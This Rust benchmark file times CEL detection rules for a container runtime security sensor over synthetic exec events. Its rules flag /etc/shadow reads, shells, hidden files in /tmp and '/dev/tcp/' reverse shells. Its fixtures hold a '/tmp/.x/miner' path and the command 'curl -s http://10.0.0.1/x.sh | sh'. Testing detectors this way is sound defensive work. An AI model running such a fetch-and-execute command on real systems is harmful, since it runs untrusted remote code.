//! What an expression costs for an event that lies in columns, as events of a recording do.
//!
//! The events are executions in a container, with all that a sensor tells. The column `fastest` is the one to read on a
//! machine that does other things, too.

use std::collections::BTreeMap;
use std::sync::Arc;

use detectors_api::detector::Context;
use detectors_api::event::EventBatch;
use detectors_api::stores::ProcessInfo;
use detectors_api::testkit::{MockStores, TestEvent, batches};
use detectors_yaml::cel::{Environment, Program};
use divan::counter::ItemsCount;
use divan::{Bencher, black_box};

/// Events that an expression is evaluated for, one after the other.
const EVENTS: usize = 256;

const CONDITIONS: &[&str] = &[
    "true",
    "workload.process.pid > 1000u",
    "workload.container.id != \"\"",
    "getEventData(\"pathname\") == \"/etc/shadow\"",
    "getEventData(\"pathname\") in SHELLS",
    "basename(getEventData(\"pathname\")) in SHELLS",
    "getEventData(\"pathname\").startsWith(\"/tmp/\") || getEventData(\"pathname\").startsWith(\"/dev/shm/\")",
    "hasData(\"pathname\") && getEventData(\"pathname\").matches(\"^/(tmp|dev/shm|var/tmp)/\\\\.[^/]+$\")",
    "workload.container.id != \"\" && workload.process.real_user.id == 0 && basename(getEventData(\"pathname\")) in SHELLS",
    "split(getEventData(\"pathname\"), \"/\").exists(part, part.startsWith(\".\") && part.size() > 1)",
    "getEventData(\"argv\").exists(a, a == \"-i\" || a.contains(\"/dev/tcp/\"))",
    "process.getAncestry(workload.process.unique_id, 5).exists(p, p.name == \"nginx\")",
    "event.data.exists(d, d.name == \"argv\" && d.str_array.value.exists(a, a == \"-e\"))",
    "workload.process.ancestors.exists(p, p.host_pid == 1)",
];

fn main() {
    divan::main();
}

fn events() -> (Vec<EventBatch>, MockStores) {
    let mut stores = MockStores::new();
    let events: Vec<_> = (0..EVENTS)
        .map(|number| {
            let path = [
                "/usr/bin/bash",
                "/usr/bin/python3.12",
                "/usr/lib/systemd/systemd-executor",
                "/tmp/.x/miner",
            ];
            let path = path[number % path.len()];
            let arguments = ["bash", "-c", "curl -s http://10.0.0.1/x.sh | sh"].map(str::to_owned);
            let pid = 5_000 + u32::try_from(number).expect("there are few");
            TestEvent::new("sched_process_exec")
                .set("pathname", path)
                .set("argv", arguments.to_vec())
                .process(pid, 1_700_000_000_000_000_000)
                .parent(4_000, 1_600_000_000_000_000_000)
                .exe(path)
                .comm("bash")
                .uid(0)
                .syscall("execve")
                .container(
                    "4e1f8f6f0c4b4d5f9a0b1c2d3e4f5061728394a5b6c7d8e9f0a1b2c3d4e5f607",
                    true,
                )
                .image("web", "nginx:1.27", "sha256:1")
        })
        .collect();
    let batches = batches(&events);
    for batch in &batches {
        for row in 0..batch.len() {
            let entity_id = batch.event(row).process().entity_id().expect("it has one");
            stores = stores.process(ProcessInfo {
                entity_id,
                name: "bash",
                ..Default::default()
            });
        }
    }
    (batches, stores)
}

fn environment() -> Environment {
    let shells = [
        "/bin/sh",
        "/bin/bash",
        "/usr/bin/zsh",
        "sh",
        "bash",
        "zsh",
        "dash",
        "ksh",
    ];
    let shells: Arc<[String]> = shells.map(str::to_owned).into();
    Environment::new(BTreeMap::from([("SHELLS".to_owned(), shells)]))
}

fn compiled(source: &str) -> Program {
    environment().condition(source).expect("it compiles")
}

/// A condition for one event.
#[divan::bench(args = CONDITIONS)]
fn condition(bencher: Bencher<'_, '_>, source: &str) {
    let (batches, stores) = events();
    let program = compiled(source);
    let context = Context::new(&stores);
    let events: Vec<_> = batches
        .iter()
        .flat_map(|batch| (0..batch.len()).map(move |row| (batch, row)))
        .collect();
    bencher.counter(ItemsCount::new(events.len())).bench_local(|| {
        let mut held = 0_usize;
        for (batch, row) in &events {
            held += usize::from(program.holds(&batch.event(*row), &context).unwrap_or_default());
        }
        black_box(held)
    });
}

/// An output for one event.
#[divan::bench]
fn output(bencher: Bencher<'_, '_>) {
    let (batches, stores) = events();
    let program = environment()
        .expression("getEventData(\"pathname\")")
        .expect("it compiles");
    let context = Context::new(&stores);
    bencher
        .counter(ItemsCount::new(1_usize))
        .bench_local(|| program.value(&batches[0].event(0), &context));
}

/// Compiling a condition.
#[divan::bench]
fn compile(bencher: Bencher<'_, '_>) {
    let environment = environment();
    bencher.bench_local(|| environment.condition(black_box(CONDITIONS[8])));
}
